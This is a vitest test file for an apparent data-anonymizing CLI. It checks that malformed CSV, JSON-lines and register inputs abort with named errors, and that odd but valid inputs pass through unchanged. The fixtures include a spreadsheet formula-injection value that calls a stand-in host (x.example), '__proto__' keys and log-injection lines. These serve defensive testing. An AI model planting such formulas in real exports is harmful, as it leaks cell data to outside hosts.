import { spawnSync } from 'node:child_process'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CONSENT, CONTRACT, people, peopleCsv, peoplePolicy, project, type Project } from './perde.ts'
import { MARK, entriesOf, expectLogHolds, expectRefusal } from './refusal.ts'

/** Everything leaves, so that whatever is wrong with a file is the first thing met. */
function anyPolicy(input: string): string {
  return `perde: 1
dataset: { id: bad, sources: { bad: ${input} }, provenance: { controller: Example Clinic } }
${CONTRACT}fields:
  bad: { '**': { role: identifier, do: drop } }
`
}

const corpus = (name: string) => readFileSync(new URL(`../corpora/handmade/${name}`, import.meta.url))
const bytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((part) => Buffer.from(part as string)))

interface Bad {
  what: string
  /** name of the file; the policy of everything leaving reads it */
  file: string
  content: string | Buffer
  code: string
  where?: RegExp
}

/** Every row says which place the error names; the mark stands in the data wherever it can. */
const BAD_FILES: Bad[] = [
  // csv: quotes and widths
  {
    what: 'a quote that is not closed',
    file: 'a.csv',
    content: `id,name\n1,x\n2,"${MARK}\n3,b\n`,
    code: 'INPUT_UNTERMINATED_QUOTE',
    where: /a\.csv.*record 2/,
  },
  {
    what: 'a quote that is not closed, in the corpus',
    file: 'a.csv',
    content: corpus('csv-unterminated-quote.csv'),
    code: 'INPUT_UNTERMINATED_QUOTE',
  },
  {
    what: 'text behind a closing quote',
    file: 'a.csv',
    content: `id,name\n1,"x"${MARK}\n`,
    code: 'INPUT_STRAY_QUOTE',
    where: /record 1/,
  },
  {
    what: 'a row with more fields than the header',
    file: 'a.csv',
    content: `id,name\n1,2\n1,${MARK},3\n`,
    code: 'INPUT_RAGGED_ROW',
    where: /record 2/,
  },
  {
    what: 'a row with fewer fields than the header',
    file: 'a.csv',
    content: `id,name\n${MARK}\n`,
    code: 'INPUT_RAGGED_ROW',
    where: /record 1/,
  },
  {
    what: 'a row with a field too many on line 5000 of many blocks',
    file: 'a.csv',
    content: `id,name\n${'1,2\n'.repeat(4999)}1,${MARK},3\n${'1,2\n'.repeat(5000)}`,
    code: 'INPUT_RAGGED_ROW',
    where: /record 5000\b/,
  },
  // csv: headers
  {
    what: 'two columns of one name',
    file: 'a.csv',
    content: `id,id,name\n1,2,${MARK}\n`,
    code: 'INPUT_DUPLICATE_FIELD',
  },
  {
    what: 'a column without a name',
    file: 'a.csv',
    content: `id,,name\n1,2,${MARK}\n`,
    code: 'INPUT_EMPTY_FIELD_NAME',
  },
  {
    what: 'two columns of one name and one without, in the corpus',
    file: 'a.csv',
    content: corpus('csv-dup-empty-header-ragged.csv'),
    code: 'INPUT_DUPLICATE_FIELD',
  },
  {
    what: 'no header, and a person in its place',
    file: 'a.csv',
    content: people(3)
      .map((o) => `${o.iin},${o.name} ${MARK},${o.phone}\n`)
      .join(''),
    code: 'INPUT_NO_HEADER',
  },
  {
    what: '5000 columns',
    file: 'a.csv',
    content: `${Array.from({ length: 5000 }, (_, i) => `c${i}`).join(',')}\n`,
    code: 'INPUT_TOO_MANY_FIELDS',
  },
  // encodings
  {
    what: 'windows-1251 that nobody declared',
    file: 'a.csv',
    content: corpus('csv-cp1251-bytes.csv'),
    code: 'INPUT_ENCODING',
    where: /record 1.*byte 10/,
  },
  {
    what: 'bytes that are not UTF-8 behind good ones',
    file: 'a.csv',
    content: bytes(`id,name\n1,${MARK}\n2,${MARK}`, [0xed, 0xa0, 0x80], '\n'),
    code: 'INPUT_ENCODING',
    where: /record 2/,
  },
  {
    what: 'surrogates and overlong forms, in the corpus',
    file: 'a.csv',
    content: corpus('csv-illegal-utf8.csv'),
    code: 'INPUT_ENCODING',
  },
  {
    what: 'half of a surrogate pair in JSON',
    file: 'a.jsonl',
    content: bytes(`{"id":1,"name":"${MARK}"}\n{"id":2,"name":"${MARK}\\ud83d"}\n`),
    code: 'INPUT_VALUE',
    where: /record 2/,
  },
  {
    what: 'a NUL as an escape in JSON',
    file: 'a.jsonl',
    content: bytes(`{"id":1,"name":"${MARK}\\u0000"}\n`),
    code: 'INPUT_NUL',
    where: /record 1/,
  },
  {
    what: 'UTF-16 that is cut in a character',
    file: 'a.csv',
    content: corpus('csv-utf16le-bom.csv').subarray(0, -1),
    code: 'INPUT_ENCODING',
  },
  {
    what: 'JSON lines in UTF-16 without its mark',
    file: 'a.jsonl',
    content: Buffer.from(`{"a":"${MARK}"}\n`, 'utf16le'),
    code: 'INPUT_ENCODING',
  },
  { what: 'a NUL', file: 'a.csv', content: corpus('csv-nul.csv'), code: 'INPUT_NUL', where: /record 1/ },
  {
    what: 'a NUL in JSON lines',
    file: 'a.jsonl',
    content: bytes(`{"a":"${MARK}"}\n{"a":"x`, [0], '"}\n'),
    code: 'INPUT_NUL',
    where: /record 2/,
  },
  // size
  {
    what: 'a field of 17 MiB',
    file: 'a.csv',
    content: `id,name\n1,${MARK}\n2,"${'x'.repeat(17 * 1024 * 1024)}"\n`,
    code: 'INPUT_RECORD_TOO_LARGE',
  },
  {
    what: 'a line of 17 MiB',
    file: 'a.jsonl',
    content: `{"a":"${MARK}"}\n{"a":"${'x'.repeat(17 * 1024 * 1024)}"}\n`,
    code: 'INPUT_RECORD_TOO_LARGE',
  },
  {
    what: 'a header of 2 MiB',
    file: 'a.csv',
    content: `id,"${MARK}${'x'.repeat(2 * 1024 * 1024)}`,
    code: 'INPUT_RECORD_TOO_LARGE',
  },
  { what: 'an empty file', file: 'a.csv', content: '', code: 'INPUT_EMPTY' },
  { what: 'an empty file of JSON lines', file: 'a.jsonl', content: '', code: 'INPUT_EMPTY' },
  // jsonl
  {
    what: 'a last line that is torn',
    file: 'a.jsonl',
    content: corpus('ndjson-torn-tail.ndjson').subarray(0, -1),
    code: 'INPUT_TORN_TAIL',
    where: /record 3/,
  },
  {
    what: 'a line that is no JSON',
    file: 'a.jsonl',
    content: `{"a":1}\n{"a":${MARK}}\n{"a":2}\n`,
    code: 'INPUT_JSON',
    where: /record 2/,
  },
  {
    what: 'a line that is a number',
    file: 'a.jsonl',
    content: `{"a":"${MARK}"}\n17\n`,
    code: 'INPUT_JSON',
    where: /record 2/,
  },
  {
    what: '100,000 nested arrays',
    file: 'a.jsonl',
    content: bytes('{"a":', corpus('json-depth-100k.json').toString(), '}\n'),
    code: 'INPUT_JSON_DEPTH',
    where: /record 1/,
  },
  {
    what: '20,000 nested objects',
    file: 'a.jsonl',
    content: corpus('json-deep-objects-20k.json'),
    code: 'INPUT_JSON_DEPTH',
  },
  {
    what: 'one key twice',
    file: 'a.jsonl',
    content: corpus('json-dup-keys.json'),
    code: 'INPUT_JSON_DUPLICATE_KEY',
    where: /record 1/,
  },
  {
    what: 'one key twice, once written with an escape',
    file: 'a.jsonl',
    content: `{"o":{"ab":"${MARK}","\\u0061b":2}}\n`,
    code: 'INPUT_JSON_DUPLICATE_KEY',
  },
  { what: 'a JSON array', file: 'a.jsonl', content: `[{"a":"${MARK}"}]\n`, code: 'INPUT_FORMAT' },
  {
    what: 'a carriage return that ends no line',
    file: 'a.csv',
    content: corpus('csv-mixed-eol.csv'),
    code: 'INPUT_RAGGED_ROW',
    where: /record 1/,
  },
  {
    what: 'a quote inside a field without quotes',
    file: 'a.csv',
    content: corpus('csv-formula.csv'),
    code: 'INPUT_STRAY_QUOTE',
    where: /record 1/,
  },
  { what: 'an ending that says no format', file: 'a.dat', content: MARK, code: 'INPUT_FORMAT' },
]

let p: Project
beforeAll(() => {
  p = project({}, afterAll)
})

/** Each file in a folder of its own, all runs into one log. */
let folders = 0
function run(policy: string, files: Record<string, string | Buffer>, ...args: string[]) {
  const folder = `${++folders}`
  for (const [name, content] of Object.entries({ 'policy.yaml': policy, ...files }))
    p.write(`${folder}/${name}`, content)
  const out = `${folder}/out`
  return { folder, out, ran: p.perde(['run', `${folder}/policy.yaml`, '--out', out, '--workers', '1', ...args]) }
}

describe('a file that cannot be trusted ends the run with 65', () => {
  for (const { what, file, content, code, where = new RegExp(file.replace('.', '\\.')) } of BAD_FILES)
    it(`for ${what}`, () => {
      const { out, ran } = run(anyPolicy(file), { [file]: content }, '--block', '1KiB')
      expectRefusal(p, ran, { status: 65, code, where, out })
    })

  it('and the log of all these runs holds', () => {
    expectLogHolds(p)
    const codes = entriesOf(p).flatMap((e) => (e.type === 'run.abort' ? [e['code']] : []))
    expect(codes).toEqual(BAD_FILES.map((bad) => bad.code))
  })
})

describe('a quote in a file whose fields stand in none', () => {
  const table = 'id\tname\n1\tx"y\n2\t"z\n3\t""\n'
  const policyOf = (spec: string) =>
    anyPolicy(`{ path: a.tsv${spec} }`).replace('{ role: identifier, do: drop }', 'insensitive')

  it('stops the run with the way out, and by that way is a letter like others', () => {
    const own = project({ 'a.tsv': table, 'bad.yaml': policyOf(''), 'good.yaml': policyOf(", quote: ''") })
    const refused = own.perde(['run', 'bad.yaml', '--out', 'out'])
    expect(refused).toMatchObject({ status: 65 })
    expect(refused.stderr).toMatch(/hint: .*quote: ''[^]*record 1, .*INPUT_STRAY_QUOTE/)
    expect(own.perde(['run', 'good.yaml', '--out', 'out'])).toMatchObject({ status: 0 })
    expect(own.text('out/data/bad.tsv')).toBe(table)
  })
})

/** What stands in an input's place, and is none. */
const NO_FILES: { what: string; code: string; input?: string; make(path: string): void }[] = [
  { what: 'nothing', code: 'INPUT_NOT_FOUND', make: () => undefined },
  { what: 'nothing that fits a glob', code: 'INPUT_NOT_FOUND', input: "'in.csv/*.csv'", make: () => undefined },
  {
    what: 'a folder of files that are not data',
    code: 'INPUT_NOT_FOUND',
    input: "'in.csv/*.csv'",
    make: (path) => {
      mkdirSync(path)
      for (const name of ['_a.csv', '.b.csv']) writeFileSync(`${path}/${name}`, 'id\n1\n')
    },
  },
  // A folder is a table of the files in it.
  { what: 'an empty folder', code: 'INPUT_NOT_FOUND', make: (path) => mkdirSync(path) },
  { what: 'a FIFO', code: 'INPUT_UNREADABLE', make: (path) => void spawnSync('mkfifo', [path]) },
  { what: '/dev/zero', code: 'INPUT_UNREADABLE', make: (path) => symlinkSync('/dev/zero', path) },
  {
    what: 'a link that points at itself',
    code: 'INPUT_UNREADABLE',
    make: (path) => symlinkSync('in.csv', path),
  },
  { what: 'a link to nowhere', code: 'INPUT_NOT_FOUND', make: (path) => symlinkSync('gone.csv', path) },
]

describe('an input that is no file ends the run with 65, without waiting', () => {
  for (const { what, code, input = 'in.csv', make } of NO_FILES)
    it(`for ${what}`, () => {
      p.write(`${folders + 1}/policy.yaml`, '')
      make(p.path(String(folders + 1), 'in.csv'))
      const { out, ran } = run(anyPolicy(input), {})
      expectRefusal(p, ran, { status: 65, code, where: /in\.csv/, out })
    })
})

/** A register that cannot be read ends the run; one that can be read badly excludes (see canaries). */
const BAD_REGISTERS: { what: string; code: string; register?: string | Buffer }[] = [
  { what: 'is missing', code: 'INPUT_NOT_FOUND' },
  { what: 'is empty', code: 'REGISTER_INVALID', register: '' },
  {
    what: 'has another header',
    code: 'REGISTER_INVALID',
    register: `person,status,purpose,processing\n${MARK},a,b,c\n`,
  },
  { what: 'has a column twice', code: 'REGISTER_INVALID', register: `iin,iin,status,purpose,processing\n` },
  {
    what: 'is not UTF-8',
    code: 'INPUT_ENCODING',
    register: bytes('iin,status,purpose,processing\n', [0xc0, 0xe9], '\n'),
  },
  {
    what: 'has a quote that is not closed',
    code: 'REGISTER_INVALID',
    register: `iin,status,purpose,processing\n"${MARK}`,
  },
]

describe('a register that cannot be read ends the run with 65', () => {
  for (const { what, code, register } of BAD_REGISTERS)
    it(`when it ${what}`, () => {
      const files = { 'people.csv': peopleCsv(people(2)), ...(register !== undefined && { 'consents.csv': register }) }
      const { out, ran } = run(peoplePolicy(CONSENT), files)
      expectRefusal(p, ran, { status: 65, code, where: /consents\.csv/, out })
    })

  it('when it is a directory', () => {
    const files = { 'people.csv': peopleCsv(people(2)), 'consents.csv/a.csv': 'iin\n' }
    const { out, ran } = run(peoplePolicy(CONSENT), files)
    expectRefusal(p, ran, { status: 65, code: 'INPUT_UNREADABLE', where: /consents\.csv/, out })
  })
})

/** Odd, but good. `out`: what comes out, where it is not what went in. */
const GOOD_FILES: { what: string; file: string; content: string | Buffer; out?: string | Buffer }[] = [
  {
    what: 'blank lines in JSON lines, which go',
    file: 'a.ndjson',
    content: corpus('ndjson-blank-lines.ndjson'),
    out: '{"a":1}\n{"a":2}',
  },
  {
    what: 'numbers beyond 2^53, of any exponent, and minus zero',
    file: 'a.jsonl',
    content: corpus('json-bignum.json').toString().replace('iin', 'a'),
  },
  { what: 'columns called __proto__ and toString', file: 'a.csv', content: corpus('csv-proto-headers.csv') },
  { what: 'keys called __proto__ and constructor', file: 'a.jsonl', content: corpus('json-proto.json') },
  {
    what: 'a byte order mark',
    file: 'a.csv',
    content: corpus('csv-utf8-bom-kk.csv'),
    out: corpus('csv-utf8-bom-kk.csv').subarray(3),
  },
  { what: 'lines that look like entries of the log', file: 'a.csv', content: corpus('log-injection.csv') },
  {
    what: 'formulas',
    file: 'a.csv',
    content: 'id,name\n1,"=HYPERLINK(""http://x.example/?""&A1)"\n2,+1+1\n3,"\t=1+1"\n',
  },
  { what: 'a header and no record', file: 'a.csv', content: 'id,name\n' },
  { what: 'a last line without its end', file: 'a.csv', content: 'id,name\n1,2' },
  { what: '4000 columns', file: 'a.csv', content: `${Array.from({ length: 4000 }, (_, i) => `c${i}`).join(',')}\n` },
  { what: 'a field of 5 MB in one line', file: 'a.csv', content: `id,name\n1,${'x y '.repeat(1_250_000)}\n2,y\n` },
  { what: 'a field of 5 MB in many lines', file: 'a.csv', content: `id,name\n1,"${'x\n'.repeat(2_500_000)}"\n2,y\n` },
  { what: '190 nested arrays', file: 'a.jsonl', content: `{"a":${'['.repeat(190)}1${']'.repeat(190)}}\n` },
]

describe('a file that is odd and good is read as it is', () => {
  for (const { what, file, content, out: expected = content } of GOOD_FILES)
    it(`with ${what}`, () => {
      const policy = `perde: 1
dataset: { id: odd, sources: { odd: ${file} }, provenance: { controller: Example Clinic } }
${CONTRACT}detect: { surprise: warn }
fields:
  odd: { '**': insensitive }
`
      const { out, ran } = run(policy, { [file]: content }, '--quiet')
      expect(ran).toMatchObject({ status: 0, stderr: '' })
      const [name] = p.below(`${out}/data`)
      // Not toEqual: the difference of five million letters helps nobody.
      expect(p.bytes(`${out}/data/${name}`).equals(Buffer.from(expected as string))).toBe(true)
    })
})
